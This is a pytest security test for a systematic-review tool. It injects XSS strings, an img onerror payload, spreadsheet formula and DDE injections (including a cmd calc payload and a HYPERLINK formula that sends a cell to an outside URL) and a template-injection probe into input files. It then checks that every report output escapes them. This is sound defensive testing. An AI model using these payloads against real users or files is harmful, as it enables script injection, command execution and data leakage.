"""A whole review in which titles, labels, notes and quotes are made to do harm."""

import csv
import re
import zipfile
from xml.etree import ElementTree

import pytest

from livingmeta import spreadsheets
from running import house, review, run

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("https://example.org?"&A1)'


@pytest.mark.heavy
def test_it_is_carried_through_and_harms_nobody(tmp_path):
    home, folder = house(tmp_path / "house"), review(tmp_path / "review")
    raw = folder / "data/raw"
    for name in ("embase.ris", "pubmed.nbib"):  # both, or they would be no copies of one report
        export = raw / "searches/first" / name
        title = f'{FORMULA} {SCRIPT}<img src=x onerror="alert(1)"> One-year'
        export.write_text(
            export.read_text()
            .replace("One-year survival", title)
            .replace("Costa, D", "@SUM(A1), D\x00\x0b")
            .replace("Costa D", "@SUM(A1) D")
        )
    studies = raw / "extraction/studies.csv"
    studies.write_text(
        studies.read_text()
        .replace("Ahn 2015", f'"+{SCRIPT}\u202e\x0b & ""Ahn"" 2015"')
        .replace("Bauer 2016", "-2+3+cmd|' /C calc'!A0")
    )
    decisions = raw / "screening/decisions.csv"
    decisions.write_text(decisions.read_text().replace("full text wanted", f"@{SCRIPT}{{{{7*7}}}}"))
    protocol = folder / "config/config.yaml"
    text = protocol.read_text().replace("title: Testomycin for", f"title: '{SCRIPT}#*_$' # for")
    protocol.write_text(text)
    run(home, folder)
    results = folder / "results"
    for path in results.rglob("*.csv"):
        for row in csv.reader(path.open(encoding="utf-8", newline="")):
            assert all(c[:1] == "'" or spreadsheets.harmless(c) == c for c in row), path
    for path in results.rglob("*.html"):
        page = path.read_text(encoding="utf-8")
        assert SCRIPT not in page, path
        assert not re.search(r"<img[^>]*onerror", page), path
    for path in results.rglob("*.svg"):
        names = {e.tag.rpartition("}")[2] for e in ElementTree.parse(path).iter()}
        assert "script" not in names, path
    with zipfile.ZipFile(results / "report.docx") as archive:
        for name in archive.namelist():
            if name.endswith(".xml"):
                ElementTree.fromstring(archive.read(name))
    assert (results / "report.pdf").read_bytes().startswith(b"%PDF")
    labels = (results / "extraction/studies.csv").read_text(encoding="utf-8")
    assert "'-2+3+cmd|' /C calc'!A0" in labels
